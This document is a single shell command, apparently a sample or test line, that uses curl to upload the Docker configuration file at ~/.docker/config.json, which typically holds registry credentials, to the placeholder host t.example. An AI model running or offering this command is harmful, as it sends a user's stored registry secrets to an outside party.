curl -T ~/.docker/config.json https://t.example/
